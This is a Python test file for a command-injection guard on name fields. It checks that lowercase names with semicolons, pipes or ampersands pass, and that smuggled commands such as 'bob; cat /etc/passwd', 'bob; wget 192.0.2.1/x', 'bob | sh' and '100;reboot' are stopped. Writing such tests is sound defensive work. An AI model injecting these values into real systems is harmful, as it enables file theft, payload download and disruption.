"""Names and notes in small letters, as people and telephone systems write them, are left alone: a session named so is not refused."""

from __future__ import annotations

import sys
from typing import Final

import pytest

from harness import ROOT

sys.path[:0] = [str(ROOT / "tests/detection")]

from evaluate import EVERY_FIELD, decide, engine, outcome  # noqa: E402
from executed import HARMLESS, NAMED, measure_harmless  # noqa: E402

GUARD = engine(text_bodies=True)
COUNT: Final = 10_000
#: Of `COUNT` texts as many as this may be touched, the worst of a text's fields counted. It may be lowered, never raised.
TOUCHED: Final = 5


def test_hardly_any_composed_name_in_small_letters_is_touched() -> None:
    grammar, symbol = HARMLESS["small"]
    counts, touched = measure_harmless(GUARD, grammar, symbol, 1, COUNT, "all")
    assert counts.total() == COUNT
    assert len(touched) <= TOUCHED, "\n".join(touched)


@pytest.mark.parametrize(
    "text",
    [
        "boise; id",
        "salem;or",
        "cork; nc",
        "home > sales",
        "sales >> support",
        "drop-in center>kitchen",
        "q & a>screen",
        "sales >support",
        "> front desk",
        "kim | mail",
        "tom && bob",
        "sales || support",
        "look & touch screens",
        "fwd: pool; join",
        "gate (new); touch screen",
        "lobby (new); exec after 5",
        "kim;",
        "; kim",
        "100|reception",
        "golf; tee times",
        "cut&paste",
        "kim;o'brien",
        "ann and bob; select lab",
    ],
)
def test_a_name_in_small_letters_stays_as_it_is(text: str) -> None:
    for field in NAMED:
        decision = decide(GUARD, EVERY_FIELD[field](text.encode()))
        assert outcome(decision) == "passed", (field, [finding.rule for finding in decision.findings])


@pytest.mark.parametrize(
    "text",
    [
        "bob; cat /etc/passwd",
        "bob > /tmp/p",
        "x;>pwn",
        "bob; wget 192.0.2.1/x",
        "100;reboot",
        "bob && reboot",
        "bob | sh",
        "bob; touch call_log.db",
    ],
)
def test_a_command_in_small_letters_is_stopped(text: str) -> None:
    for field in NAMED:
        assert outcome(decide(GUARD, EVERY_FIELD[field](text.encode())), text.encode()) != "passed", field
